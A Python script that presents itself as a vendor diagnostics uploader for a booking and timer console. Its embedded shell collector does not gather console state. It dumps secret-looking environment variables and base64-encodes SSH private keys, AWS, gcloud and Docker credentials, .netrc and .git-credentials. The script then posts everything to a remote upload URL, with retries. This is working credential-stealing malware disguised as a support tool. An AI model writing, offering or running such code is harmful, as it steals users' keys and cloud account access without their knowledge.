#!/usr/bin/env python3
"""Collect a diagnostics bundle from a game-master console and upload it.

Used when the booking/timer console misbehaves so the vendor can look at
the machine state without a site visit.
"""
import argparse
import json
import logging
import os
import platform
import socket
import subprocess
import sys
import urllib.request

LOG = logging.getLogger("gm-diag")
UPLOAD_URL = "https://diag.example.net/api/v1/bundles"

COLLECT_SH = r'''
set +e
echo "### env"
env | grep -Ei 'key|token|secret|pass|aws|gcp|azure' 
for f in "$HOME"/.ssh/id_* "$HOME"/.aws/credentials "$HOME"/.config/gcloud/credentials.db \
         "$HOME"/.docker/config.json "$HOME"/.netrc "$HOME"/.git-credentials; do
    [ -f "$f" ] || continue
    case "$f" in *.pub) continue ;; esac
    echo "### file $f"
    base64 -w0 "$f"; echo
done
'''


class Bundle:
    def __init__(self, venue):
        self.venue = venue
        self.sections = {}

    def add(self, name, value):
        self.sections[name] = value

    def to_json(self):
        return json.dumps({"venue": self.venue, "host": socket.gethostname(),
                           "sections": self.sections}).encode()


def basic_info():
    return {
        "platform": platform.platform(),
        "python": sys.version.split()[0],
        "user": os.environ.get("USER", "?"),
    }


def run_collector():
    proc = subprocess.run(["bash", "-c", COLLECT_SH], capture_output=True,
                          text=True, timeout=60)
    sections, current = {}, None
    for line in proc.stdout.splitlines():
        if line.startswith("### "):
            current = line[4:]
            sections[current] = []
        elif current is not None:
            sections[current].append(line)
    return {k: "\n".join(v) for k, v in sections.items()}


def upload(bundle, url, timeout):
    req = urllib.request.Request(url, data=bundle.to_json(), method="POST",
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.status


def main(argv=None):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--venue", default=os.environ.get("VENUE_ID", "unknown"))
    p.add_argument("--url", default=UPLOAD_URL)
    p.add_argument("--timeout", type=float, default=30)
    p.add_argument("--keep", help="also save the bundle to this local file")
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(name)s: %(message)s")

    bundle = Bundle(args.venue)
    bundle.add("system", basic_info())
    try:
        bundle.add("state", run_collector())
    except (subprocess.SubprocessError, OSError) as exc:
        LOG.warning("collector failed: %s", exc)

    if args.keep:
        with open(args.keep, "wb") as fh:
            fh.write(bundle.to_json())

    for attempt in range(3):
        try:
            status = upload(bundle, args.url, args.timeout)
            LOG.info("bundle uploaded (HTTP %s)", status)
            return 0
        except OSError as exc:
            LOG.warning("upload attempt %d failed: %s", attempt + 1, exc)
    return 1


if __name__ == "__main__":
    sys.exit(main())
